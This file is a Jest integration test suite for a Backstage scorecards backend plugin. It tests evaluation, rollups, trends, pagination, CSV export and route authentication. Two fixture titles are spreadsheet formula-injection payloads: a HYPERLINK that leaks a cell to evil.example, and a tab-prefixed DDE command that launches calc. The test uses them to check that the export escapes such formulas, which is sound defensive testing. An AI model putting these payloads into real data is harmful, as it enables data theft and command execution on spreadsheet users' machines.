import {
  coreServices,
  createServiceFactory,
} from '@backstage/backend-plugin-api';
import {
  mockCredentials,
  mockServices,
  startTestBackend,
} from '@backstage/backend-test-utils';
import { Entity } from '@backstage/catalog-model';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import {
  scorecardsPermissions,
  type EntitiesPageResponse,
  type EntityScorecardsResponse,
  type GroupRollupNode,
  type RollupResponse,
  type TrendsResponse,
} from '@guardrails/plugin-scorecards-common';
import express from 'express';
import request from 'supertest';
import { scorecardsPlugin } from './plugin';
import { createOpenApiDocument } from './schema/openapi';

jest.setTimeout(60_000);

const DAY = 24 * 60 * 60 * 1000;
/** A date `n` days ago, as the catalog annotations write it (YYYY-MM-DD). */
const daysAgo = (n: number) =>
  new Date(Date.now() - n * DAY).toISOString().slice(0, 10);

function group(
  name: string,
  displayName: string,
  type: string,
  parent?: string,
): Entity {
  return {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Group',
    metadata: { name, namespace: 'default' },
    spec: {
      type,
      profile: { displayName },
      ...(parent && { parent }),
      children: [],
    },
  };
}

function component(options: {
  name: string;
  title: string;
  type: string;
  owner: string;
  system?: string;
  annotations?: Record<string, string>;
  links?: { url: string; title: string; type: string }[];
}): Entity {
  return {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Component',
    metadata: {
      name: options.name,
      namespace: 'default',
      title: options.title,
      annotations: options.annotations ?? {},
      links: options.links ?? [],
    },
    spec: {
      type: options.type,
      lifecycle: 'production',
      owner: options.owner,
      ...(options.system && { system: options.system }),
    },
    // The in-memory catalog does not process entities, so relations are spelled out.
    relations: [
      { type: 'ownedBy', targetRef: `group:default/${options.owner}` },
      ...(options.system
        ? [{ type: 'partOf', targetRef: `system:default/${options.system}` }]
        : []),
    ],
  };
}

const FORMULA_TITLE =
  '=HYPERLINK("https://evil.example/?leak="&A1,"Legacy batch")';
const TAB_FORMULA_TITLE = "\t=cmd|' /C calc'!A0";

const entities: Entity[] = [
  group('acme', 'ACME', 'organization'),
  group('engineering', 'Engineering', 'department', 'acme'),
  group('operations', 'Operations', 'department', 'acme'),
  group('team-payments', 'Payments', 'team', 'engineering'),
  group('team-search', 'Search', 'team', 'engineering'),
  group('team-sre', 'SRE', 'team', 'operations'),
  {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'Domain',
    metadata: { name: 'commerce', namespace: 'default' },
    spec: { owner: 'engineering' },
  },
  {
    apiVersion: 'backstage.io/v1alpha1',
    kind: 'System',
    metadata: { name: 'payments', namespace: 'default' },
    spec: { owner: 'team-payments', domain: 'commerce' },
  },
  // Everything the production-readiness scorecard asks for.
  component({
    name: 'checkout-api',
    title: 'Checkout API',
    type: 'service',
    owner: 'team-payments',
    system: 'payments',
    annotations: {
      'pagerduty.com/integration-key': 'a1b2c3d4e5f6',
      'sonarqube.org/project-key': 'acme_checkout',
      'guardrails.dev/slo-target': '99.9',
      'guardrails.dev/slo-doc': 'https://wiki.example.com/slo/checkout',
      'backstage.io/techdocs-ref': 'dir:.',
      'guardrails.dev/security-contact': 'security-payments@acme.example',
      'guardrails.dev/security-tier': '1',
      'guardrails.dev/runbook-reviewed': daysAgo(30),
      'guardrails.dev/postmortems':
        'https://wiki.example.com/postmortems/checkout',
      'guardrails.dev/security-reviewed': daysAgo(100),
      'guardrails.dev/rollout-strategy': 'canary',
      'guardrails.dev/chaos-last-run': daysAgo(10),
    },
    links: [
      {
        url: 'https://wiki.example.com/runbooks/checkout',
        title: 'Runbook',
        type: 'runbook',
      },
      {
        url: 'https://grafana.example.com/d/abc',
        title: 'Dashboard',
        type: 'dashboard',
      },
    ],
  }),
  // Nothing but an owner, and a title that would run as a spreadsheet formula.
  component({
    name: 'legacy-batch',
    title: FORMULA_TITLE,
    type: 'service',
    owner: 'team-search',
  }),
  // Bronze, but the runbook review date is not a date.
  component({
    name: 'search-ui',
    title: 'Search UI',
    type: 'website',
    owner: 'team-sre',
    annotations: {
      'pagerduty.com/service-id': 'PX12345',
      'snyk.io/org-name': 'acme',
      'guardrails.dev/runbook-reviewed': 'last spring',
    },
  }),
  // Owned by a team that is not in the catalog.
  component({
    name: 'orphan-worker',
    // A tab before the formula slips past guards that only look for a leading =.
    title: TAB_FORMULA_TITLE,
    type: 'service',
    owner: 'team-ghosts',
    annotations: {
      'pagerduty.com/integration-key': 'f00ba4',
      'sonarqube.org/project-key': 'acme_orphan',
    },
  }),
];

const TASK_ID = 'scorecards-evaluate';
const SCORECARD = 'production-readiness';
const CHECKOUT = 'component:default/checkout-api';
const LEGACY = 'component:default/legacy-batch';
const SEARCH_UI = 'component:default/search-ui';
const ORPHAN = 'component:default/orphan-worker';

interface Operation {
  method: string;
  /** As OpenAPI writes it, e.g. `/waivers/{id}`. */
  path: string;
  /** Whether the operation overrides the document's security with `security: []`. */
  public: boolean;
}

/** Every operation of the OpenAPI document. */
function documentedOperations(): Operation[] {
  const { paths = {} } = createOpenApiDocument();
  return Object.entries(paths).flatMap(([path, item]) =>
    (['get', 'put', 'post', 'delete', 'patch'] as const).flatMap(method => {
      const operation = item[method];
      return operation
        ? [
            {
              method: method.toUpperCase(),
              path,
              public: operation.security?.length === 0,
            },
          ]
        : [];
    }),
  );
}

const OPERATIONS = documentedOperations();

const withSampleParams = (path: string) =>
  path.replace(/\{[^}]+\}/g, 'some-id');

describe('scorecardsPlugin', () => {
  describe('with an evaluated catalog', () => {
    let server: Awaited<ReturnType<typeof startTestBackend>>['server'];
    let stop: () => Promise<void>;
    const scheduler = mockServices.scheduler();
    const scheduleTask = jest.spyOn(scheduler, 'scheduleTask');
    const auth = mockCredentials.user.header();

    const get = (path: string) =>
      request(server).get(`/api/scorecards${path}`).set('Authorization', auth);

    beforeAll(async () => {
      const backend = await startTestBackend({
        features: [
          scorecardsPlugin,
          catalogServiceMock.factory({ entities }),
          createServiceFactory({
            service: coreServices.scheduler,
            deps: {},
            factory: () => scheduler,
          }),
        ],
      });
      server = backend.server;
      stop = () => backend.stop();

      await scheduler.triggerTask(TASK_ID);
    });

    afterAll(async () => {
      await stop();
    });

    it('schedules one evaluation for all replicas together', async () => {
      // A local task would run once per replica and cadence.
      expect(await scheduler.getScheduledTasks()).toEqual([
        expect.objectContaining({ id: TASK_ID, scope: 'global' }),
      ]);
    });

    it('gives a run minutes before another may start, not a quarter of an hour', () => {
      expect(scheduleTask).toHaveBeenCalledWith(
        expect.objectContaining({ id: TASK_ID, timeout: { minutes: 5 } }),
      );
    });

    it('records the scheduled run', async () => {
      const res = await get('/runs');
      expect(res.status).toBe(200);
      expect(res.body.items).toEqual([
        expect.objectContaining({
          trigger: 'schedule',
          status: 'succeeded',
          entities: 4,
          removed: 0,
        }),
      ]);
    });

    it('serves the definitions it evaluates', async () => {
      const res = await get('/definitions');
      expect(res.status).toBe(200);
      expect(res.body.scorecards.map((s: { id: string }) => s.id)).toEqual([
        SCORECARD,
      ]);
      expect(res.body.checks.map((c: { id: string }) => c.id)).toEqual(
        expect.arrayContaining(['owner-exists', 'on-call', 'chaos-practice']),
      );
    });

    it('gives an exemplary service Gold with every check passing', async () => {
      const res = await get(`/entity?entityRef=${CHECKOUT}`);
      expect(res.status).toBe(200);
      const body: EntityScorecardsResponse = res.body;
      expect(body.entityRef).toBe(CHECKOUT);
      const [card] = body.scorecards;
      expect(card).toMatchObject({
        scorecardId: SCORECARD,
        title: 'Production readiness',
        level: 'Gold',
        levels: [
          {
            name: 'Bronze',
            checks: ['owner-exists', 'on-call', 'security-scanning'],
          },
          { name: 'Silver', checks: expect.arrayContaining(['slo-defined']) },
          { name: 'Gold', checks: expect.arrayContaining(['postmortems']) },
        ],
        score: 100,
      });
      expect(card.nextLevel).toBeUndefined();
      const failing = card.checks.filter(c => c.status !== 'pass');
      expect(failing).toEqual([]);
      expect(card.checks).toHaveLength(14);
      for (const check of card.checks) {
        expect(check.explanation).toEqual(expect.any(String));
        expect(check.title).toEqual(expect.any(String));
      }
    });

    it('tells a bare service why it has no level and what blocks Bronze', async () => {
      const res = await get(`/entity?entityRef=${LEGACY}`);
      expect(res.status).toBe(200);
      const [card] = (res.body as EntityScorecardsResponse).scorecards;
      expect(card.level).toBeNull();
      expect(card.nextLevel).toEqual({
        name: 'Bronze',
        blockedBy: expect.arrayContaining(['on-call', 'security-scanning']),
      });
      expect(card.nextLevel!.blockedBy).not.toContain('owner-exists');
      const onCall = card.checks.find(c => c.checkId === 'on-call')!;
      expect(onCall).toMatchObject({
        status: 'fail',
        severity: 'critical',
        enforced: true,
        title: 'Alerts routed to on-call',
      });
      expect(onCall.explanation.length).toBeGreaterThan(10);
      expect(onCall.remediation).toContain('pagerduty.com/integration-key');
      // An advisory check can only warn.
      expect(
        card.checks.find(c => c.checkId === 'chaos-practice'),
      ).toMatchObject({
        status: 'warn',
        enforced: false,
      });
    });

    it('reports a malformed date as an error that names the value', async () => {
      const res = await get(`/entity?entityRef=${SEARCH_UI}`);
      expect(res.status).toBe(200);
      const [card] = (res.body as EntityScorecardsResponse).scorecards;
      expect(card.level).toBe('Bronze');
      const reviewed = card.checks.find(c => c.checkId === 'runbook-reviewed')!;
      expect(reviewed.status).toBe('error');
      expect(reviewed.explanation).toContain('last spring');
    });

    it('fails ownership for an owner that is not in the catalog', async () => {
      const res = await get(`/entity?entityRef=${ORPHAN}`);
      expect(res.status).toBe(200);
      const [card] = (res.body as EntityScorecardsResponse).scorecards;
      expect(card.level).toBeNull();
      const owner = card.checks.find(c => c.checkId === 'owner-exists')!;
      expect(owner.status).toBe('fail');
      expect(owner.explanation).toEqual(expect.any(String));
      expect(card.nextLevel?.blockedBy).toEqual(['owner-exists']);
    });

    it('tells entities no scorecard applies to apart from those that do not exist', async () => {
      const system = await get('/entity?entityRef=system:default/payments');
      expect(system.status).toBe(200);
      expect(system.body).toMatchObject({
        status: 'not-applicable',
        scorecards: [],
      });
      expect(
        (await get('/entity?entityRef=component:default/nope')).status,
      ).toBe(404);
    });

    it('rolls up along the group tree, departments counting their teams', async () => {
      const res = await get('/rollup?by=group');
      expect(res.status).toBe(200);
      const body = res.body as Extract<RollupResponse, { by: 'group' }>;
      expect(body.scorecardId).toBe(SCORECARD);
      expect(body.title).toBe('Production readiness');
      expect(body.summary).toMatchObject({
        entities: 4,
        levels: { Gold: 1, Bronze: 1, Silver: 0, none: 2 },
      });
      expect(body.unowned).toMatchObject({
        entities: 1,
        levels: expect.objectContaining({ none: 1 }),
      });

      const brief = (node: GroupRollupNode): unknown => ({
        ref: node.ref,
        entities: node.entities,
        ownEntities: node.ownEntities,
        children: node.children.map(brief),
      });
      expect(body.groups.map(brief)).toEqual([
        {
          ref: 'group:default/acme',
          entities: 3,
          ownEntities: 0,
          children: [
            {
              ref: 'group:default/engineering',
              entities: 2,
              ownEntities: 0,
              children: [
                {
                  ref: 'group:default/team-payments',
                  entities: 1,
                  ownEntities: 1,
                  children: [],
                },
                {
                  ref: 'group:default/team-search',
                  entities: 1,
                  ownEntities: 1,
                  children: [],
                },
              ],
            },
            {
              ref: 'group:default/operations',
              entities: 1,
              ownEntities: 0,
              children: [
                {
                  ref: 'group:default/team-sre',
                  entities: 1,
                  ownEntities: 1,
                  children: [],
                },
              ],
            },
          ],
        },
      ]);
      const engineering = body.groups[0].children[0];
      expect(engineering).toMatchObject({
        title: 'Engineering',
        type: 'department',
        levels: expect.objectContaining({ Gold: 1, none: 1 }),
        failing: 1,
      });
    });

    it('scopes a rollup to one department', async () => {
      const res = await get('/rollup?by=group&scope=group:default/operations');
      expect(res.status).toBe(200);
      expect(res.body.summary.entities).toBe(1);
      expect(res.body.groups.map((g: GroupRollupNode) => g.ref)).toEqual([
        'group:default/operations',
      ]);
    });

    it('answers one level of the group tree at a time, saying which groups have more', async () => {
      const top = await get('/rollup?by=group&depth=1');
      expect(top.status).toBe(200);
      expect(top.headers['content-type']).toMatch(/^application\/json/);
      const brief = (node: GroupRollupNode): unknown => [
        node.ref,
        node.entities,
        node.hasChildren,
        node.children.map(brief),
      ];
      expect(top.body.groups.map(brief)).toEqual([
        [
          'group:default/acme',
          3,
          true,
          [
            ['group:default/engineering', 2, true, []],
            ['group:default/operations', 1, true, []],
          ],
        ],
      ]);
      const expanded = await get(
        '/rollup?by=group&scope=group:default/engineering&depth=1',
      );
      expect(expanded.body.groups.map(brief)).toEqual([
        [
          'group:default/engineering',
          2,
          true,
          [
            ['group:default/team-payments', 1, false, []],
            ['group:default/team-search', 1, false, []],
          ],
        ],
      ]);
      expect(expanded.body.summary.entities).toBe(2);
    });

    it('rolls up by system, domain and check', async () => {
      const bySystem = await get('/rollup?by=system');
      expect(bySystem.body.rows).toEqual([
        expect.objectContaining({
          ref: 'system:default/payments',
          entities: 1,
        }),
      ]);
      const byDomain = await get('/rollup?by=domain');
      expect(byDomain.body.rows).toEqual([
        expect.objectContaining({
          ref: 'domain:default/commerce',
          entities: 1,
        }),
      ]);
      const byCheck = await get('/rollup?by=check');
      const owner = byCheck.body.rows.find(
        (r: { checkId: string }) => r.checkId === 'owner-exists',
      );
      expect(owner.counts).toMatchObject({ pass: 3, fail: 1 });
      expect(owner.failing).toBe(1);
    });

    it('drills down into a department, sorted by score', async () => {
      const res = await get(
        '/entities?scope=group:default/engineering&sort=-score',
      );
      expect(res.status).toBe(200);
      const body: EntitiesPageResponse = res.body;
      expect(body.total).toBe(2);
      expect(body.items.map(i => i.entityRef)).toEqual([CHECKOUT, LEGACY]);
      expect(body.items[0]).toMatchObject({
        level: 'Gold',
        score: 100,
        ownerRef: 'group:default/team-payments',
        systemRef: 'system:default/payments',
        domainRef: 'domain:default/commerce',
        failing: [],
      });
      const ascending = await get(
        '/entities?scope=group:default/engineering&sort=score',
      );
      expect(
        ascending.body.items.map((i: { entityRef: string }) => i.entityRef),
      ).toEqual([LEGACY, CHECKOUT]);
    });

    it('filters the drill-down by level, failing check and text', async () => {
      const refs = async (query: string) =>
        (await get(`/entities?${query}`)).body.items.map(
          (i: { entityRef: string }) => i.entityRef,
        );
      expect(await refs('level=Gold')).toEqual([CHECKOUT]);
      expect(await refs('level=none&sort=name')).toEqual([LEGACY, ORPHAN]);
      expect(await refs('failingCheck=owner-exists')).toEqual([ORPHAN]);
      // An error counts as failing, like a fail.
      expect(await refs('failingCheck=runbook-reviewed&sort=name')).toEqual([
        LEGACY,
        ORPHAN,
        SEARCH_UI,
      ]);
      expect(await refs('q=checkout')).toEqual([CHECKOUT]);
      expect(await refs('type=website')).toEqual([SEARCH_UI]);
      expect((await get('/entities?level=Platinum')).status).toBe(400);
    });

    it.each([
      '/rollup?by=system&scope=system:default/nope',
      '/rollup?scope=domain:default/nope',
      '/entities?scope=system:default/nope',
      '/entities?scope=domain:default/nope',
      '/trends?scope=system:default/nope',
      '/trends?scope=group:default/nope',
    ])('answers GET %s with 404, as for an unknown group', async path => {
      const res = await get(path);
      expect(res.status).toBe(404);
      expect(res.body.error.message).toMatch(
        /^No (system|domain|group) \S+ in the catalog$/,
      );
    });

    it('scopes to a System or Domain the catalog has, naming it', async () => {
      const bySystem = await get(
        '/rollup?by=system&scope=system:default/payments',
      );
      expect(bySystem.status).toBe(200);
      expect(bySystem.body.rows).toEqual([
        expect.objectContaining({
          ref: 'system:default/payments',
          title: 'payments',
          entities: 1,
        }),
      ]);
      const inDomain = await get('/entities?scope=domain:default/commerce');
      expect(
        inDomain.body.items.map((i: { entityRef: string }) => i.entityRef),
      ).toEqual([CHECKOUT]);
    });

    it('pages the drill-down', async () => {
      const page1 = await get('/entities?sort=name&pageSize=1');
      expect(page1.body).toMatchObject({ total: 4, pageSize: 1 });
      const page2 = await get(`/entities?cursor=${page1.body.nextCursor}`);
      expect(page2.body).toMatchObject({ total: 4, pageSize: 1 });
      expect(
        page2.body.items.map((i: { entityRef: string }) => i.entityRef),
      ).toEqual([LEGACY]);
    });

    it('exports the drill-down as CSV that spreadsheets do not execute', async () => {
      const res = await get('/entities?format=csv&sort=name');
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      expect(res.headers['content-disposition']).toBe(
        `attachment; filename="scorecards-${SCORECARD}.csv"`,
      );
      const lines = res.text.split('\r\n');
      expect(lines[0]).toBe(
        'entityRef,title,kind,type,owner,system,domain,scorecard,level,score,failingChecks,since',
      );
      expect(lines.slice(1, -1).map(l => l.split(',')[0])).toEqual([
        CHECKOUT,
        LEGACY,
        ORPHAN,
        SEARCH_UI,
      ]);
      expect(lines[lines.length - 1]).toBe('');
      expect(lines[1]).toMatch(
        /^component:default\/checkout-api,Checkout API,component,service,group:default\/team-payments,system:default\/payments,domain:default\/commerce,production-readiness,Gold,100,,\d{4}-/,
      );
      const legacy = lines[2];
      expect(legacy).toContain(
        `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Legacy batch"")"`,
      );
      expect(legacy).not.toMatch(/,=HYPERLINK/);
      expect(lines[3]).toContain(`,'${TAB_FORMULA_TITLE},`);
    });

    it('shows the trend of the scope and who moved', async () => {
      const res = await get('/trends');
      expect(res.status).toBe(200);
      const body: TrendsResponse = res.body;
      expect(body).toMatchObject({
        scorecardId: SCORECARD,
        scope: 'all',
        interval: 'P1W',
      });
      // Twelve weeks, a point each week, both ends included.
      expect(body.points).toHaveLength(13);
      expect(body.points[0]).toMatchObject({ entities: 0, averageScore: null });
      expect(body.points[12]).toMatchObject({
        entities: 4,
        levels: expect.objectContaining({ Gold: 1, Bronze: 1, none: 2 }),
      });
      // Every entity appeared in the window: none improved or regressed.
      expect(body.improved).toEqual([]);
      expect(body.regressed).toEqual([]);

      const scoped = await get(
        '/trends?scope=group:default/operations&interval=P4W',
      );
      expect(scoped.body.scope).toBe('group:default/operations');
      expect(scoped.body.points).toHaveLength(4);
      expect(scoped.body.points[3].entities).toBe(1);
    });

    it('keeps the history of an entity', async () => {
      const res = await get(`/entity/history?entityRef=${CHECKOUT}`);
      expect(res.status).toBe(200);
      expect(res.body.events).toEqual(
        expect.arrayContaining([
          expect.objectContaining({
            type: 'scorecard',
            scorecardId: SCORECARD,
            level: 'Gold',
            score: 100,
          }),
        ]),
      );
    });

    it('answers /health without a token', async () => {
      const res = await request(server).get('/api/scorecards/health');
      expect(res.status).toBe(200);
      expect(res.body).toEqual({ status: 'ok' });
    });

    it('documents /health, and only /health, as public', () => {
      expect(OPERATIONS.length).toBeGreaterThan(10);
      expect(OPERATIONS.filter(op => op.public)).toEqual([
        { method: 'GET', path: '/health', public: true },
      ]);
    });

    it.each(OPERATIONS.filter(op => !op.public))(
      'rejects $method $path without a valid token',
      async ({ method, path }) => {
        const url = `/api/scorecards${withSampleParams(path)}`;
        const send = (header?: string) => {
          const req =
            request(server)[
              method.toLowerCase() as
                | 'get'
                | 'post'
                | 'delete'
                | 'put'
                | 'patch'
            ](url);
          return header ? req.set('Authorization', header) : req;
        };
        expect((await send(mockCredentials.none.header())).status).toBe(401);
        expect((await send(mockCredentials.user.invalidHeader())).status).toBe(
          401,
        );
      },
    );
  });

  describe('after a reorganisation', () => {
    it('rolls up along the new group tree at the next run', async () => {
      const catalog = structuredClone(entities);
      const scheduler = mockServices.scheduler();
      const backend = await startTestBackend({
        features: [
          scorecardsPlugin,
          catalogServiceMock.factory({ entities: catalog }),
          createServiceFactory({
            service: coreServices.scheduler,
            deps: {},
            factory: () => scheduler,
          }),
        ],
      });
      try {
        const departments = async () => {
          const res = await request(backend.server)
            .get('/api/scorecards/rollup?by=group')
            .set('Authorization', mockCredentials.user.header());
          expect(res.status).toBe(200);
          return Object.fromEntries(
            (res.body.groups[0].children as GroupRollupNode[]).map(d => [
              d.ref,
              { entities: d.entities, teams: d.children.map(t => t.ref) },
            ]),
          );
        };
        await scheduler.triggerTask(TASK_ID);
        expect(await departments()).toEqual({
          'group:default/engineering': {
            entities: 2,
            teams: ['group:default/team-payments', 'group:default/team-search'],
          },
          'group:default/operations': {
            entities: 1,
            teams: ['group:default/team-sre'],
          },
        });

        // Search moves to Operations; none of its services change.
        const search = catalog.find(e => e.metadata.name === 'team-search')!;
        (search.spec as { parent: string }).parent = 'operations';
        await scheduler.triggerTask(TASK_ID);

        expect(await departments()).toEqual({
          'group:default/engineering': {
            entities: 1,
            teams: ['group:default/team-payments'],
          },
          'group:default/operations': {
            entities: 2,
            teams: ['group:default/team-search', 'group:default/team-sre'],
          },
        });
      } finally {
        await backend.stop();
      }
    });
  });

  describe('routes', () => {
    it('registers exactly the routes the OpenAPI document documents, and only /health is public', async () => {
      const httpRouter = mockServices.httpRouter.mock();
      const permissionsRegistry = mockServices.permissionsRegistry.mock();
      const backend = await startTestBackend({
        features: [
          scorecardsPlugin,
          httpRouter.factory,
          permissionsRegistry.factory,
          catalogServiceMock.factory({ entities: [] }),
        ],
      });
      try {
        expect(httpRouter.use).toHaveBeenCalledTimes(1);
        const router = httpRouter.use.mock.calls[0][0] as express.Router;
        const registered = (router.stack as any[])
          .filter(layer => layer.route)
          .flatMap(layer =>
            Object.keys(layer.route.methods)
              .filter(method => layer.route.methods[method])
              .map(method => ({
                method: method.toUpperCase(),
                // Express writes path parameters as :id, OpenAPI as {id}.
                path: String(layer.route.path).replace(/:(\w+)/g, '{$1}'),
              })),
          );
        const key = (op: { method: string; path: string }) =>
          `${op.method} ${op.path}`;
        expect(registered.map(key).sort()).toEqual(OPERATIONS.map(key).sort());

        // What the document says is public is exactly what the plugin lets through.
        expect(
          httpRouter.addAuthPolicy.mock.calls.map(([policy]) => policy),
        ).toEqual(
          OPERATIONS.filter(op => op.public).map(op => ({
            path: op.path,
            allow: 'unauthenticated',
          })),
        );
        // Permission policies can only grant what the plugin registers.
        expect(permissionsRegistry.addPermissions).toHaveBeenCalledWith(
          scorecardsPermissions,
        );
      } finally {
        await backend.stop();
      }
    });
  });
});
